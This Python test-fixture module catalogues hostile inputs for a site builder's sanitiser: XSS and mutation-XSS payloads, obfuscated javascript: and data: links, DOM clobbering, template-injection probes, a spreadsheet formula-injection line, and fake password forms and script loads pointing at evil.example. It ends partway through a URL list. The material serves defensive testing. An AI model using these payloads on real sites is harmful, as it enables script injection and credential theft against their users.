r"""Hostile content as data: what a stranger may put into a title, a link, a body, a file's name or the settings.

Every payload that could run calls one function, ``alarm``, so that a browser test needs to watch nothing else. The
last column of a row is the code of the problem that a build must name for it; an empty one means that the text is
harmless once it is escaped or sanitised, and is published without a word.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import NamedTuple

from digest.settings import DEFAULT_WORDING


class Payload(NamedTuple):
    """One hostile text. ``code`` is the problem that the build names, or nothing."""

    name: str
    text: str
    code: str = ""


def rows(family: str, *given: tuple[str, ...]) -> tuple[Payload, ...]:
    """The payloads of one family; a row is a name, a text and perhaps a code."""
    return tuple(Payload(f"{family}-{one[0]}", *one[1:]) for one in given)


REMOVED, UNSAFE = "removed-html", "unsafe-link"

# --- Bodies ------------------------------------------------------------------------------------------------

SCRIPTS = rows(
    "script",
    ("plain", "<script>alarm()</script>", REMOVED),
    ("inline", "Some <script>alarm()</script> words.", REMOVED),
    ("capitals", "<ScRiPt>alarm()</sCrIpT>", REMOVED),
    ("space", "<script >alarm()</script >", REMOVED),
    ("slash", "<script/x>alarm()</script/x>", REMOVED),
    ("newline", "<script\n>alarm()</script\n>", REMOVED),
    ("unclosed", "Before <script>alarm()\n\nAfter it.", REMOVED),
    ("nested", "<scr<script>ipt>alarm()</scr</script>ipt>", REMOVED),
    ("elsewhere", '<script src="https://evil.example/a.js"></script>', REMOVED),
    ("module", "<script type=module>alarm()</script>", REMOVED),
    ("data", '<script src="data:,alarm()"></script>', REMOVED),
    ("json-ld", '<script type="application/ld+json">{"headline": "another"}</script>', REMOVED),
    ("escaped-comment", "<script><!--<script>alarm()</script>", REMOVED),
    ("noscript", '<noscript><p title="</noscript><img src=/x.png onerror=alarm()>"></noscript>', REMOVED),
)

HANDLERS = rows(
    "event",
    ("img", "<img src=/x.png onerror=alarm()>", REMOVED),
    ("img-slashes", "<img/src=/x.png/onerror=alarm()>", REMOVED),
    ("img-unclosed", "<img src=/x.png onerror=alarm() "),
    ("img-quotes", '<img src="/x.png" alt="" onerror="alarm()">', REMOVED),
    ("img-grave", "<img src=`/x.png` onerror=alarm()>"),
    ("img-newlines", "<img\nsrc=/x.png\nonerror\n=\nalarm()>", REMOVED),
    ("img-entity", "<img src=/x.png onerror=&#97;larm()>", REMOVED),
    ("img-no-space", '<img src="/x.png"onerror="alarm()">'),
    ("img-twice", '<img src="/x.png" onerror="1" onerror="alarm()">', REMOVED),
    ("image", "<image src=/x.png onerror=alarm()>", REMOVED),
    ("paragraph", '<p onclick="alarm()" onmouseover="alarm()">Hover here</p>', REMOVED),
    ("bold", "Some <b onmouseover=alarm()>bold</b> words", REMOVED),
    ("form-feed", "Some <b\x20\x20onmouseover=alarm()>bold</b> words", REMOVED),
    ("anchor", '<a href="/2025/05/harmless/" onclick="alarm()" onfocus="alarm()" autofocus>a link</a>', REMOVED),
    ("details", "<details open ontoggle=alarm()><summary onclick=alarm()>More</summary>text</details>", REMOVED),
    ("table", "<table><tr><td onclick=alarm() background=javascript:alarm()>cell</td></tr></table>", REMOVED),
    ("unknown-element", "<x onclick=alarm() tabindex=1 onfocus=alarm() id=x>words</x>", REMOVED),
    (
        "custom-element",
        "<x-y oncontentvisibilityautostatechange=alarm() style=content-visibility:auto>w</x-y>",
        REMOVED,
    ),
    ("marquee", "<marquee onstart=alarm()>words</marquee>", REMOVED),
    ("body", "<body onload=alarm() onpageshow=alarm()>words", REMOVED),
    ("video", "<video src=/x.mp4 onerror=alarm()><source onerror=alarm()></video>", REMOVED),
    ("audio", "<audio src=/x.mp3 onloadstart=alarm()></audio>", REMOVED),
    ("animation", "<p style='animation:x' onanimationstart=alarm()>words</p>", REMOVED),
    ("popover", "<button popovertarget=x>open</button><p popover id=x onbeforetoggle=alarm()>w</p>", REMOVED),
    ("hidden-match", '<p hidden="until-found" onbeforematch="alarm()">words</p>', REMOVED),
    ("quote-in-attribute", "<a title='\"><img src=/x.png onerror=alarm()>' href=/2025/05/harmless/>w</a>"),
    ("heading-in-attribute", '<a title="<h2 onclick=alarm() >x</h2>" href=/2025/05/harmless/>w</a>\n\n## Words'),
    ("table-in-attribute", '<img src=/x.png alt="<table><tr><th onclick=alarm()>" title="</table>">'),
    ("figure-in-attribute", '![a](/x.png "<img src=/x.png onerror=alarm()>")'),
    ("frame-in-attribute", '<a title="<iframe src=javascript:alarm()>" href=/2025/05/harmless/>w</a>'),
    ("lt-in-tag", "<b <i onclick=alarm()>words</b>", REMOVED),
    ("null-like", "<b\u200bonclick=alarm()>words</b>", REMOVED),
    ("fullwidth", "\uff1cimg src=/x.png onerror=alarm()\uff1e"),
    ("escaped", "&lt;img src=/x.png onerror=alarm()&gt;"),
    ("escaped-twice", "&amp;lt;img src=/x.png onerror=alarm()&amp;gt;"),
    ("backslashes", "\\<img src=/x.png onerror=alarm()\\>"),
)

FOREIGN = rows(
    "foreign",
    ("svg-onload", "<svg onload=alarm()></svg>", REMOVED),
    ("svg-slash", "<svg/onload=alarm()>", REMOVED),
    ("svg-script", "<svg><script>alarm()</script></svg>", REMOVED),
    ("svg-script-href", "<svg><script href=data:,alarm() /></svg>", REMOVED),
    ("svg-entity-script", "<svg><script>alarm&lpar;&rpar;</script></svg>", REMOVED),
    ("svg-animate", "<svg><animate onbegin=alarm() attributeName=x dur=1s></svg>", REMOVED),
    ("svg-set", "<svg><a><set attributeName=href to=javascript:alarm() /><text y=20>w</text></a></svg>", REMOVED),
    ("svg-use", '<svg><use href="data:image/svg+xml,<svg id=x><script>alarm()</script></svg>#x"/></svg>', REMOVED),
    ("svg-foreign-object", "<svg><foreignObject><img src=/x.png onerror=alarm()></foreignObject></svg>", REMOVED),
    ("svg-a", "<svg><a xlink:href=javascript:alarm()><text y=20>words</text></a></svg>", REMOVED),
    ("svg-image", "<svg><image href=/x.png onerror=alarm() /></svg>", REMOVED),
    ("svg-unclosed", "<svg><p>words in a paragraph", REMOVED),
    ("math-href", "<math href=javascript:alarm()>words</math>", REMOVED),
    (
        "math-action",
        '<math><maction actiontype="statusline#x" xlink:href="javascript:alarm()">w</maction></math>',
        REMOVED,
    ),
    ("math-annotation", '<math><annotation-xml encoding="text/html"><img src=/x.png onerror=alarm()>', REMOVED),
    (
        "mutation-style",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alarm()&gt;">',
        REMOVED,
    ),
    ("mutation-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alarm()>">', REMOVED),
    ("mutation-form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alarm()>", REMOVED),
    ("mutation-noscript", "<noscript><style></noscript><img src=/x.png onerror=alarm()>", REMOVED),
    ("mutation-title", '<svg><title><style><img src="</style><img src=1 onerror=alarm()//">', REMOVED),
    ("mutation-desc", "<svg><desc><![CDATA[</desc><script>alarm()</script>]]></svg>", REMOVED),
    (
        "mutation-select",
        '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alarm()>">',
        REMOVED,
    ),
    ("mutation-textarea", '<textarea><p title="</textarea><img src=/x.png onerror=alarm()>">', REMOVED),
    ("mutation-xmp", '<xmp><p title="</xmp><svg/onload=alarm()>">', REMOVED),
    ("mutation-noembed", '<noembed><img title="</noembed><img src onerror=alarm()>"></noembed>', REMOVED),
    ("mutation-plaintext", "<plaintext><img src=/x.png onerror=alarm()>", REMOVED),
    ("template", "<template><script>alarm()</script></template>", REMOVED),
    ("template-shadow", "<p><template shadowrootmode=open><img src=/x.png onerror=alarm()></template></p>", REMOVED),
    ("title", "<title>another title</title>", REMOVED),
    ("title-unclosed", "Some <title>words that go on\n\nand on", REMOVED),
    ("textarea-unclosed", "Some <textarea>words that go on\n\nand on", REMOVED),
    ("listing", "<listing>&lt;img src=/x.png onerror=alarm()&gt;</listing>", REMOVED),
    ("deep", "<div>" * 60 + "<svg onload=alarm()>" + "</div>" * 60, REMOVED),
)

LOADING = rows(
    "loading",
    ("iframe", "<iframe src=javascript:alarm()></iframe>", REMOVED),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.alarm()</script>"></iframe>', REMOVED),
    ("iframe-unclosed", "Some <iframe src=https://evil.example/>words that go on\n\nand on", REMOVED),
    ("object", "<object data=javascript:alarm()></object>", REMOVED),
    ("embed", "<embed src=data:text/html,<script>alarm()</script>>", REMOVED),
    ("applet", "<applet code=https://evil.example/x.class></applet>", REMOVED),
    ("frameset", "<frameset onload=alarm()><frame src=javascript:alarm()></frameset>", REMOVED),
    ("link-style", "<link rel=stylesheet href=https://evil.example/a.css>", REMOVED),
    ("link-prefetch", "<link rel=dns-prefetch href=//evil.example>", REMOVED),
    ("style", "<style>@import 'https://evil.example/a.css'; * { display: none }</style>", REMOVED),
    ("style-unclosed", "Some <style>* { display: none }\n\nwords", REMOVED),
    ("style-attribute", '<p style="position:fixed;inset:0;background:url(https://evil.example/)">words</p>', REMOVED),
    ("base", "<base href=https://evil.example/>[a link](/2025/05/harmless/)", REMOVED),
    ("meta-refresh", '<meta http-equiv=refresh content="0;url=javascript:alarm()">', REMOVED),
    ("meta-csp", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", REMOVED),
    ("form", "<form action=javascript:alarm()><input type=submit value=go></form>", REMOVED),
    (
        "form-password",
        "<form action=https://evil.example/><input type=password name=p><button>Log in</button></form>",
        REMOVED,
    ),
    ("button", "<button formaction=javascript:alarm() onclick=alarm()>press</button>", REMOVED),
    ("input-image", "<input type=image src=/x.png onerror=alarm() autofocus onfocus=alarm()>", REMOVED),
    ("select", "<select onfocus=alarm() autofocus><option>one</select>", REMOVED),
    ("keygen", "<keygen autofocus onfocus=alarm()>", REMOVED),
    ("ping", "[a link](/2025/05/harmless/) <a href=/2025/05/harmless/ ping=https://evil.example/>b</a>", REMOVED),
    ("srcset", '<img src=/x.png alt=a srcset="https://evil.example/x.png 2x">', REMOVED),
    ("picture", '<picture><source srcset="https://evil.example/x.png"><img src=/x.png alt=a></picture>', REMOVED),
    ("poster", "<video poster=https://evil.example/x.png controls></video>", REMOVED),
    ("portal", "<portal src=https://evil.example/></portal>", REMOVED),
    ("body-background", "<body background=https://evil.example/x.png>", REMOVED),
    ("target", '<a href="/2025/05/harmless/" target="_parent" rel="opener">a link</a>'),
    ("download", '<a href="/2025/05/harmless/" download="x.exe">a link</a>', REMOVED),
    ("import-map", '<script type="importmap">{"imports": {"a": "data:,alarm()"}}</script>', REMOVED),
    (
        "speculation",
        '<script type="speculationrules">{"prefetch": [{"urls": ["https://evil.example/"]}]}</script>',
        REMOVED,
    ),
)

DISGUISED = rows(
    "link",
    ("plain", "[words](javascript:alarm())", UNSAFE),
    ("capitals", "[words](JaVaScRiPt:alarm())", UNSAFE),
    ("entities", "[words](&#106;&#97;vascript:alarm())", UNSAFE),
    ("entities-hex", "[words](&#x6A;avascript&#x3A;alarm())", UNSAFE),
    ("entities-open", "<a href='&#0000106avascript:alarm()'>words</a>", UNSAFE),
    ("colon", "[words](javascript&colon;alarm())", UNSAFE),
    ("tab", '<a href="java&Tab;script:alarm()">words</a>', UNSAFE),
    ("tab-raw", '<a href="java\tscript:alarm()">words</a>'),
    ("newline", '<a href="java&NewLine;script:alarm()">words</a>', UNSAFE),
    ("newline-raw", '<a href="java\nscript:alarm()">words</a>', UNSAFE),
    ("return", '<a href="java&#13;script:alarm()">words</a>', UNSAFE),
    ("space", '<a href="  javascript:alarm()">words</a>', UNSAFE),
    ("control", '<a href="&#1;javascript:alarm()">words</a>', UNSAFE),
    ("control-inside", '<a href="java&#1;script:alarm()">words</a>', UNSAFE),
    ("control-31", '<a href="&#31;&#9;javascript:alarm()">words</a>', UNSAFE),
    ("noncharacter", "[words](&#xfdd0;javascript:alarm())", UNSAFE),
    ("noncharacter-raw-html", '<a href="&#xFDD0;javascript:alarm()">words</a>', UNSAFE),
    ("noncharacter-second", '<a href="&#xFDD1;javascript:alarm()">words</a>', UNSAFE),
    ("noncharacter-inside", '<a href="java&#xFDD0;script:alarm()">words</a>', UNSAFE),
    ("noncharacter-last", '<a href="&#xFFFF;javascript:alarm()">words</a>', UNSAFE),
    ("zero-width", '<a href="&#x200B;javascript:alarm()">words</a>', UNSAFE),
    ("byte-order-mark", '<a href="&#xFEFF;javascript:alarm()">words</a>', UNSAFE),
    ("nul", '<a href="&#0;javascript:alarm()">words</a>'),
    ("line-separator", '<a href="&#x2028;javascript:alarm()">words</a>'),
    ("vbscript", "[words](vbscript:alarm())", UNSAFE),
    ("data", "[words](data:text/html,<script>alarm()</script>)", UNSAFE),
    ("data-base64", "[words](data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+)", UNSAFE),
    ("data-image", "![words](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsYXJtKCkiLz4=)", UNSAFE),
    ("blob", "[words](blob:https://courier.example/1-2-3)", UNSAFE),
    ("file", "[words](file:///etc/passwd)", UNSAFE),
    ("filesystem", "[words](filesystem:https://courier.example/x)", UNSAFE),
    ("view-source", "[words](view-source:https://courier.example/)", UNSAFE),
    ("unknown", "[words](x-scheme-y:alarm())", UNSAFE),
    ("feed", "[words](feed:javascript:alarm())", UNSAFE),
    ("angle", "[words](<javascript:alarm()>)", UNSAFE),
    ("angle-spaces", "[words](< javascript:alarm()>)", UNSAFE),
    ("title", '[words](javascript:alarm() "a title")', UNSAFE),
    ("autolink", "<javascript:alarm()>", REMOVED),
    ("autolink-data", "<data:text/html,alarm()>", REMOVED),
    ("reference", "[words][x]\n\n[x]: javascript:alarm()", UNSAFE),
    ("reference-angle", "[words]\n\n[words]: <javascript:alarm()>", UNSAFE),
    ("reference-lines", "[words][x]\n\n[x]:\n    javascript:alarm()", UNSAFE),
    ("reference-title", '[words][x]\n\n[x]: javascript:alarm() "\'>words"', UNSAFE),
    ("footnote", "Words[^1].\n\n[^1]: See [this](javascript:alarm()) <img src=/x.png onerror=alarm()>", UNSAFE),
    ("image", "![words](javascript:alarm())", UNSAFE),
    ("image-reference", "![words][x]\n\n[x]: javascript:alarm()", UNSAFE),
    ("image-in-link", "[![words](/x.png)](javascript:alarm())", UNSAFE),
    ("percent", "[words](javascript%3Aalarm())"),
    ("percent-first", "[words](%6Aavascript:alarm())"),
    ("slashes", "[words](javascript://courier.example/%0Aalarm())", UNSAFE),
    ("backslash", "[words](javascript\\:alarm())"),
    ("escaped-parentheses", "[words](javascript:alarm\\(\\))", UNSAFE),
    ("cite", '<blockquote cite="javascript:alarm()">words</blockquote>', UNSAFE),
    ("cite-q", 'Some <q cite="data:text/html,x">words</q>.', UNSAFE),
    ("raw", "<a href=javascript:alarm()>words</a>", UNSAFE),
    ("raw-twice", '<a href="/2025/05/harmless/" href="javascript:alarm()">words</a>', UNSAFE),
    ("raw-quotes", "<a href='javascript:alarm(\"1\")'>words</a>", UNSAFE),
    ("protocol-relative", "[words](//evil.example/a)"),
    ("backslash-host", "[words](\\\\evil.example/a)", "empty-link"),
    ("userinfo", "[words](https://courier.example@evil.example/)", UNSAFE),
    ("userinfo-raw", '<a href="https:/\\courier.example&#64;evil.example/">words</a>', UNSAFE),
    ("userinfo-tab", '<a href="https:/&Tab;/courier.example@evil.example/">words</a>', UNSAFE),
    ("userinfo-no-scheme", "[words](//courier.example@evil.example/)", UNSAFE),
    ("userinfo-backslash", '<a href="/&#92;courier.example@evil.example/">words</a>', UNSAFE),
    ("quote", '[words](https://a.example/"onmouseover="alarm())'),
    ("quote-entity", "[words](https://a.example/&quot;onmouseover=&quot;alarm())"),
    ("quote-single", "[words](https://a.example/'onmouseover='alarm())"),
    ("brackets", "[words](https://a.example/<script>alarm()</script>)"),
    ("bidi", "[words](https://a.example/\u202egnp.exe)"),
    ("mailto", "[words](mailto:a@a.example?subject=%3Cscript%3Ealarm()%3C/script%3E)"),
    ("automail", "<a@a.example>"),
    ("automail-quote", '<a"onmouseover=alarm()@a.example>'),
)

MARKDOWN = rows(
    "markdown",
    ("attr-list", "# Words {onclick=alarm() #content .masthead}"),
    ("attr-list-block", "Words\n{: onclick=alarm() style=display:none }"),
    ("attr-list-inline", "*words*{: onmouseover=alarm() }"),
    ("image-title", '![words](/x.png "x\\" onerror=alarm()")'),
    ("image-alt", '![" onerror="alarm()](/x.png)'),
    ("image-alt-html", "![<img src=/x.png onerror=alarm()>](/x.png)"),
    ("link-title", '[words](/2025/05/harmless/ "\\"><script>alarm()</script>")'),
    ("link-title-event", "[words](/2025/05/harmless/ 'x\" onmouseover=\"alarm()')"),
    ("reference-quote", '[words][x]\n\n[x]: /2025/05/harmless/ "x" onmouseover="alarm()"'),
    ("abbr", 'The HTML is here.\n\n*[HTML]: "><script>alarm()</script>'),
    ("abbr-event", 'The HTML is here.\n\n*[HTML]: x" onmouseover="alarm()'),
    ("footnote-name", 'Words[^x"onclick=alarm()].\n\n[^x"onclick=alarm()]: A note.'),
    ("footnote-many", "One[^1], two[^1], three[^1].\n\n[^1]: A note <b>bold.\n"),
    ("code-language", '```html" onclick="alarm()\n<script>alarm()</script>\n```', REMOVED),
    ("code-language-html", "```<script>alarm()</script>\nwords\n```"),
    ("code-language-class", "```masthead skip\nwords\n```"),
    ("code-attributes", "``` {.masthead #content onclick=alarm()}\nwords\n```"),
    ("code", "`<script>alarm()</script>` and `</code><script>alarm()</script>`"),
    ("code-indented", "    <script>alarm()</script>\n    </pre></code>"),
    (
        "table",
        "| a | <script>alarm()</script> |\n|---|---|\n| <b onclick=alarm()>b | [c](javascript:alarm()) |",
        UNSAFE,
    ),
    ("table-align", '| a |\n|:-:" onclick="alarm()|\n| b |'),
    ("definition", "Words\n:   <script>alarm()</script> in a definition", REMOVED),
    ("heading", "# <script>alarm()</script> Words <img src=/x.png onerror=alarm()>", REMOVED),
    ("heading-first", "# A headline of the body's own\n\n# And another"),
    ("list", "- <script>alarm()</script>\n- <b onclick=alarm()>two", REMOVED),
    ("quote", "> <script>alarm()</script>\n> — <b onclick=alarm()>Somebody</b>", REMOVED),
    ("deleted", "~~<b onclick=alarm()>words</b>~~", REMOVED),
    ("emphasis-link", "*[words*](javascript:alarm())", UNSAFE),
    ("emphasis-nested", "**_[words](javascript:alarm())_**", UNSAFE),
    ("placeholder", "klzzwxh:0042 wzxhzdk:0 \x7bklzzwxh\x7d and <b>bold</b>"),
    ("placeholder-amp", "amp&#59;lt; &amp;#60;script>alarm()&lt;/script>"),
    ("html-in-link-text", "[<img src=/x.png onerror=alarm()>](/2025/05/harmless/)", REMOVED),
    ("link-in-link", "[a [b](javascript:alarm()) c](https://a.example/)"),
    ("md-in-html", "<div markdown=1>\n[words](javascript:alarm())\n</div>", REMOVED),
    ("smart-quotes", "\"<b title='\"'>words</b>\" -- 'and <i title=\"'\">more</i>'", REMOVED),
    ("autolink-quote", '<https://a.example/"onmouseover="alarm()>'),
    ("processing-instruction", "<?php alarm(); ?> <?xml-stylesheet href='javascript:alarm()'?>"),
    ("declaration", '<!DOCTYPE html [<!ENTITY x "alarm()">]> &x;'),
    ("cdata", "<![CDATA[<script>alarm()</script>]]>", REMOVED),
    ("cdata-end", "]]> and ]]&gt;<script>alarm()</script>", REMOVED),
    ("comment", "<!-- <script>alarm()</script> --> words", REMOVED),
    ("comment-open", "<!-- words that go on\n\nand on"),
    ("comment-bang", "<!--!><img src=/x.png onerror=alarm()>-->", REMOVED),
    ("comment-dash", "<!--><img src=/x.png onerror=alarm()>-->", REMOVED),
    ("comment-bang-end", "<!-- --!><script>alarm()</script> -->", REMOVED),
    ("comment-conditional", "<!--[if IE]><script>alarm()</script><![endif]-->", REMOVED),
    (
        "template-words",
        "{{ 7*191 }} {% raw %}{{ site }}{% endraw %} {% include 'feed.xml' %} {# words #}",
        "leftover-command",
    ),
    ("template-attack", "{{ ''.__class__.__mro__[1].__subclasses__() }} ${7*191} #{7*191} <%= 7*191 %>"),
    ("format-words", "{0.__class__} {slug} %(title)s %s"),
)

UNCLOSED = rows(
    "unclosed",
    ("landmarks", "</main></article></body></html>"),
    ("prose", "</div></div></div></article></main>\n\nand on"),
    ("div", "<div><div><div>words that go on"),
    ("section", "</section><section><h1>Words</h1>", REMOVED),
    ("main", '<main id="main_text"><h1>Another page</h1></main>', REMOVED),
    ("header", "<header><nav><a href=/2025/05/harmless/>words</a></nav></header>", REMOVED),
    ("footer", "<footer>© another site</footer>", REMOVED),
    ("aside", '<aside class="notice"><button>Accept</button></aside>', REMOVED),
    ("dialog", "<dialog open>words</dialog>", REMOVED),
    ("link", "<a href=/2025/05/harmless/>a link that goes on\n\nand on"),
    ("bold", "<b><i><u><s>words that go on\n\nand on"),
    ("span", "<span><span>words that go on\n\nand on"),
    ("heading", "<h2>words that go on\n\nand on"),
    ("table", "<table><tr><td>words that go on\n\nand on"),
    ("table-foster", "<table><p>fostered<tr><td>words</table>"),
    ("table-end", "</table></td></tr>words"),
    ("list", "<ul><li>one<li>two<ol><li>three"),
    ("list-end", "</li></ul></ol>words"),
    ("quote", "<blockquote><p>words that go on\n\nand on"),
    ("details", "<details><summary>words that go on\n\nand on"),
    ("attribute", '<a href="/2025/05/harmless/ title=words>never closed\n\nand on'),
    ("attribute-quote", '<b title="never closed>words\n\nand on'),
    ("tag", "words <b"),
    ("end-tag", "words </b"),
    ("lone", "a < b > c & d &amp e &notanentity; <> </> <3"),
    ("ruby", "<ruby>words<rt>above"),
    ("stray-li", "<li>a stray element of a list</li>"),
    ("stray-dd", "<dd>a stray definition</dd><dt>a stray term</dt>"),
    ("stray-summary", "<summary>a stray summary</summary>"),
    ("stray-caption", "<figcaption>a stray caption</figcaption>"),
    ("stray-cell", "<td>a stray cell</td><tr><th>another</table>"),
    ("stray-rt", "Some <rt>stray ruby</rt> words"),
    ("list-text", "<ul>text in a list<li>one</li><p>two</p></ul>"),
    ("details-bare", "<details>nothing says what this is</details>"),
    ("block-in-inline", "<span><div>a block in a line</div></span>"),
    ("heading-block", "<h2><div>a block in a heading</div></h2>"),
    ("deep-divs", "<div>" * 150 + "words" + "</div>" * 150),
    ("deep-quotes", ">" * 80 + " words", "markdown-budget"),
)

CLOBBERING = rows(
    "clobber",
    ("id", '<p id="main_text">words</p> <p id="content">words</p>'),
    ("id-twice", '<p id="a">words</p><p id="a">words</p>'),
    ("name", '<a name="main_text">words</a><img name="querySelector" src=/x.png alt=a>', REMOVED),
    ("id-document", '<b id="document">a</b> <b id="location">b</b> <b id="__proto__">c</b>'),
    ("id-empty", '<b id="">a</b> <b id=" ">b</b>'),
    ("id-spaces", '<b id="a b">a</b> <b id="a\tb">b</b> <b id="\'&quot;><i">c</b>'),
    ("id-prefix", '<b id="s-a">a</b> <b id="a">b</b> <b id="fn:1">c</b> Words[^1]\n\n[^1]: A note.'),
    ("form-name", '<form id="notice" name="notice"><input name="querySelector"></form>', REMOVED),
    ("class", '<p class="masthead skip notice sheet">words</p> <b class="away badge">more</b>'),
    ("role", '<p role="main" aria-label="words" aria-hidden="true">words</p>', REMOVED),
    ("tabindex", '<p tabindex="1" accesskey="s" contenteditable draggable="true">words</p>', REMOVED),
    ("data", '<p data-x="1" slot="a" is="x-y" part="b" nonce="c">words</p>', REMOVED),
    ("microdata", '<p itemscope itemtype="https://schema.org/Thing" itemprop="x">words</p>', REMOVED),
    ("lang", '<p lang="x&quot;onclick=alarm()" dir="up">words</p> <b lang="fr" dir="ltr">mots</b>'),
    ("numbers", '<ol start="x" type="q"><li value="1e9">one</ol><img src=/x.png alt=a width="1px" height="-1">'),
    ("cells", '<table><tr><td colspan="99999" rowspan="-1" headers="nobody" align="up">a</td></tr></table>', REMOVED),
    ("cells-wide", '<table><tr><th scope="all" colspan="1000">a</th></tr><tr><td colspan="0">b</td></tr></table>'),
    (
        "dates",
        '<time datetime="tomorrow">a</time> <time>x</time> <del datetime="x" cite=" ">b</del>',
        "empty-link",
    ),
    ("turned", '<bdo dir="up">words</bdo> <bdo>words</bdo> <bdo dir="rtl">words</bdo>'),
    ("heading-levels", "<h1>One</h1><h2>Two</h2><h1>Three</h1>"),
)

CHARACTERS = rows(
    "character",
    ("nul", "words \x00 words", "control-character"),
    ("one", "words \x01 words", "control-character"),
    ("placeholder-stx", "\x02amp\x03 \x02klzzwxh:0000\x03", "control-character"),
    ("escape", "words \x1b[31m words", "control-character"),
    ("delete", "words \x7f words", "control-character"),
    ("c1", "words \x81 words", "control-character"),
    ("noncharacter", "words \ufffe words", "control-character"),
    ("mark", "[words](\ufdd0javascript:alarm())", "control-character"),
    ("entity-nul", "words &#0; words"),
    ("entity-one", "words &#1; words &#x1f; words"),
    ("entity-c1", "words &#x81; &#x8d; &#127; words"),
    ("entity-noncharacter", "words &#xFFFE; &#xFFFF; &#xFDD0; &#xFDD1; words"),
    ("entity-surrogate", "words &#xD800; &#xDFFF; words"),
    ("entity-too-large", "words &#x110000; &#99999999999; words"),
    ("entity-split", "words &#x&#1;fdd0;javascript: words"),
    ("separators", "words \u2028 words \u2029 words"),
    ("bidi", "words \u202ereversed\u202c \u2066isolated"),
    ("bidi-code", "`if admin \u202e \u2066// check\u2069 \u2066`"),
    ("zero-width", "w\u200bo\u200cr\u200dd\u2060s\ufeff"),
    ("combining", "w" + "\u0301" * 60 + "ords"),
    ("emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1eb\U0001f1f7"),
    ("astral-noncharacter", "words \U0001fffe \U0010ffff words"),
    ("private-use", "words \ue000 \U000f0000 words"),
    ("tags", "words \U000e0001\U000e0041 words"),
)

FAMILIES = (
    SCRIPTS, HANDLERS, FOREIGN, LOADING, DISGUISED, MARKDOWN, UNCLOSED, CLOBBERING, CHARACTERS,
)  # fmt: skip

BODIES = tuple(payload for family in FAMILIES for payload in family)
"""Bodies of articles and of standalone pages."""

# --- One line of plain text --------------------------------------------------------------------------------

LINES = rows(
    "line",
    ("script", "<script>alarm()</script>"),
    ("img", "<img src=/x.png onerror=alarm()>"),
    ("end-title", "</title><script>alarm()</script>"),
    ("end-script", "</script><script>alarm()</script>"),
    ("escaped-script", "<!--<script>alarm()//"),
    ("double-quote", '" onmouseover="alarm()" x="'),
    ("double-quote-tag", '"><img src=/x.png onerror=alarm()>'),
    ("single-quote", "' onmouseover='alarm()' x='"),
    ("end-main", "</h1></main></article></body>"),
    ("comment", "<!-- words"),
    ("cdata", "]]><script>alarm()</script><![CDATA["),
    ("entities", "&lt;script&gt;alarm()&lt;/script&gt; &amp;amp; &#60;b&#62;"),
    ("template", "{{ 7*191 }} {% raw %} {% include 'feed.xml' %} {# words #}"),
    ("template-attack", "{{ self.__init__.__globals__ }} ${7*191}"),
    ("format", "{slug} {0.__class__} %(title)s %s"),
    ("markdown", "[words](javascript:alarm()) ![x](/x.png) `code` *words*"),
    ("json", '{"headline": "x"} \\u003cscript\\u003e \\" \\'),
    ("svg", "<svg/onload=alarm()>"),
    ("grave", "`-alarm()-`"),
    ("equals", "=cmd|' /C calc'!A0"),
    ("bidi", "words \u202ereversed \u2066isolated"),
    ("zero-width", "w\u200bo\u200dr\u2060ds"),
    ("emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1eb\U0001f1f7 e\u0301"),
    ("astral", "words \U0001d54f\U0001f600 \ue000"),
    ("fullwidth", "\uff1cscript\uff1ealarm()\uff1c/script\uff1e"),
    ("iframe", "<iframe srcdoc='<script>parent.alarm()</script>'>"),
    ("style", "</style><style>*{display:none}</style>"),
    ("textarea", "</textarea></select></template><plaintext>"),
)
"""Titles, names, tags, alternative texts: whatever stands there is text and arrives as text."""

FORBIDDEN = rows(
    "forbidden",
    ("nul", "words \x00 words", "control-character"),
    ("one", "words \x01 words", "control-character"),
    ("delete", "words \x7f words", "control-character"),
    ("c1", "words \x81 words", "control-character"),
    ("noncharacter", "words \ufffe words", "control-character"),
    ("mark", "\ufdd0words", "control-character"),
    ("line-separator", "words \u2028 words", "control-character"),
)
"""What may not stand in any text of a page or feed. Written raw or as an escape of YAML, the build names it."""

# --- Short Markdown ----------------------------------------------------------------------------------------

PROSE = rows(
    "prose",
    ("script", "Some <script>alarm()</script> words.", REMOVED),
    ("img", "Some <img src=/x.png onerror=alarm()> words.", REMOVED),
    ("link", "Some [words](javascript:alarm()).", UNSAFE),
    ("link-entity", "Some [words](&#xfdd0;javascript:alarm()).", UNSAFE),
    ("end", "</p></div></header></main>"),
    ("unclosed", "Some <b><a href=/2025/05/harmless/>words"),
    ("block", "<div><h1>Words</h1><table><tr><td>cell</table></div>"),
    ("id", '<b id="main_text" class="masthead">Words</b>'),
    ("style", "<style>*{display:none}</style> Words", REMOVED),
    ("comment", "<!-- Words"),
    ("heading", "# Words"),
    ("list", "- one\n- two <svg onload=alarm()>", REMOVED),
    ("template", "{{ 7*191 }} {% raw %} words"),
    ("json", "</script><!--<script> words", REMOVED),
    ("separator", "Words &#x2028; words &#x2029; words"),
    ("noncharacter", "Words &#xfffe; &#1; words"),
    ("marks", "Words &#xfdd0; &#xfdd1; [here](&#xfdd1;#x) <a href=&#64977;javascript:alarm()>words</a>", UNSAFE),
    ("paragraphs", 'Words <p lang="fr">mots'),
    ("quotation", "> Words\n>\n> — <b onclick=alarm()>Somebody</b>", REMOVED),
    ("iframe", "Words <iframe src=https://evil.example/></iframe>", REMOVED),
    ("form", "<form action=https://evil.example/><input name=a></form> Words", REMOVED),
)
"""Summaries, intros, captions, corrections, the notice: Markdown with less in it."""

# --- Addresses ---------------------------------------------------------------------------------------------

BAD_URLS = rows(
    "url",
    ("script", "javascript:alarm()", "bad-url"),
    ("capitals", "JAVASCRIPT:alarm()", "bad-url"),
    ("space", " javascript:alarm()", "bad-url"),
    ("tab", "java\tscript:alarm()", "bad-url"),
    ("newline", "java\nscript:alarm()", "bad-url"),
    ("data", "data:text/html,<script>alarm()</script>", "bad-url"),
